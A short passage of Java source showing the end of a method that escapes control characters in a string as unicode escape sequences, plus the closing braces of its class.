        for (char c : s.toCharArray()) {
            sb.append(c < 0x20 || c == 0x7f ? String.format("\\u%04x", (int) c) : String.valueOf(c));
        }
        return sb.toString();
    }
}
